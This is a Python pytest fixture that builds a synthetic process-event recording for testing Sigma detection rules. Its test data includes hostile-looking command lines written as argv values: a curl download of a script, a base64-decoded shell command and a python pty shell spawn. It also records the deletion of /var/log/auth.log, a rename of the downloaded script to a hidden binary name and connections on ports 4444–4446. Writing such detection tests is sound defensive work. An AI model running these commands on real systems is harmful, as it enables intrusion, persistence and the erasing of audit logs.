"""A small recording whose every process is known, for the Sigma tests.

bash (100) runs curl (200), sh (300), python3 (400), a failed nmap exec (500) and an
interactive bash (700); nginx (600) accepts one connection. curl writes /tmp/x.sh, reads
/etc/passwd and connects five times (port 80, then 4444-4446 on 10.1.2.3, then fe80::1); sh deletes
/var/log/auth.log; python3 renames /tmp/x.sh to /usr/local/bin/.update.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from tests.signatures.conftest import write_recording


def at(second: int) -> str:
    return f"2026-03-14T22:00:{second:02d}Z"


def _proc(process_id: int, pid: int, parent: int, ppid: int, **fields: Any) -> dict[str, Any]:
    return {
        "process_id": process_id,
        "pid": pid,
        "tid": pid,
        "parent_process_id": parent,
        "ppid": ppid,
        **fields,
    }


BASH = _proc(100, 10, 1, 1, comm="bash", exe="/usr/bin/bash", uid=0, cwd="/root")
NGINX = _proc(600, 60, 1, 1, comm="nginx", exe="/usr/sbin/nginx", uid=33, cwd="/")


def _child(process_id: int, pid: int, fork_s: int, exec_s: int, **exec_fields: Any) -> list[dict]:
    fork = {**_proc(process_id, pid, 100, 10, comm="bash", exe="/usr/bin/bash", uid=0)}
    fork.update(time=at(fork_s), event="process_fork", cwd="/root")
    run = {**_proc(process_id, pid, 100, 10), "time": at(exec_s), "event": "process_exec"}
    run.update(retval=0, **exec_fields)
    return [fork, run]


CURL = {"comm": "curl", "exe": "/usr/bin/curl", "uid": 1000, "cwd": "/tmp"}
# The children of bash: process_id (pid is a tenth of it), fork and exec second, image,
# uid, cwd, argv, exec result.
CHILDREN = (
    (200, 1, 2, "/usr/bin/curl", 1000, "/tmp",
     ["curl", "-o", "/tmp/x.sh", "http://203.0.113.9/x.sh"], 0),
    (300, 3, 4, "/bin/sh", 0, "/root", ["sh", "-c", "echo Y3VybA== | base64 -d"], 0),
    (400, 5, 6, "/usr/bin/python3", 1000, "/home/u",
     ["python3", "-c", "import pty;pty.spawn('/bin/sh')"], 0),
    (500, 7, 8, "/usr/bin/nmap", 0, "/root", ["nmap"], -2),  # the exec failed
    (700, 18, 19, "/usr/bin/bash", 0, "/root", ["bash", "-i"], 0),
)  # fmt: skip


def rows() -> list[dict[str, Any]]:
    out: list[dict[str, Any]] = [
        {**BASH, "time": at(0), "event": "process_snapshot", "argv": ["-bash"]},
        {**NGINX, "time": at(0), "event": "process_snapshot", "argv": ["nginx"]},
    ]
    for process_id, fork_s, exec_s, image, uid, cwd, argv, retval in CHILDREN:
        fields = {"comm": Path(image).name, "exe": image, "uid": uid, "cwd": cwd}
        if image == "/usr/bin/nmap":
            fields["comm"] = "bash"  # a failed exec keeps the old comm
        out += _child(process_id, process_id // 10, fork_s, exec_s, argv=argv, **fields)
        out[-1]["retval"] = retval
    curl = {**_proc(200, 20, 100, 10), **CURL}
    python = {**_proc(400, 40, 100, 10), "comm": "python3", "exe": "/usr/bin/python3"}
    sh = {**_proc(300, 30, 100, 10), "comm": "sh", "exe": "/bin/sh"}
    out += [
        {
            **curl,
            "time": at(9),
            "event": "file_open",
            "syscall": "openat",
            "path": "/tmp/x.sh",
            "flags": 577,
            "retval": 3,
        },
        {
            **curl,
            "time": at(10),
            "event": "file_open",
            "syscall": "openat",
            "path": "/etc/passwd",
            "flags": 0,
            "retval": 4,
        },
        {
            **sh,
            "time": at(11),
            "event": "file_unlink",
            "syscall": "unlinkat",
            "path": "/var/log/auth.log",
            "retval": 0,
        },
        {
            **python,
            "time": at(12),
            "event": "file_rename",
            "syscall": "renameat2",
            "path": "/tmp/x.sh",
            "path2": "/usr/local/bin/.update",
            "retval": 0,
        },
    ]
    for second, addr, port in (
        (13, "203.0.113.9", 80),
        (14, "10.1.2.3", 4444),
        (15, "10.1.2.3", 4445),
        (16, "10.1.2.3", 4446),
        (20, "fe80::1", 8080),  # link-local IPv6, after every correlation has fired
    ):
        out.append(
            {
                **curl,
                "time": at(second),
                "event": "net_connect",
                "syscall": "connect",
                "family": "inet6" if ":" in addr else "inet",
                "addr": addr,
                "port": port,
                "retval": 0,
            }
        )
    out.append(
        {
            **NGINX,
            "time": at(17),
            "event": "net_accept",
            "family": "inet",
            "addr": "198.51.100.7",
            "port": 50000,
            "retval": 5,
        }
    )
    return out


@pytest.fixture(scope="session")
def recording(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return write_recording(tmp_path_factory.mktemp("sigma") / "data", rows())
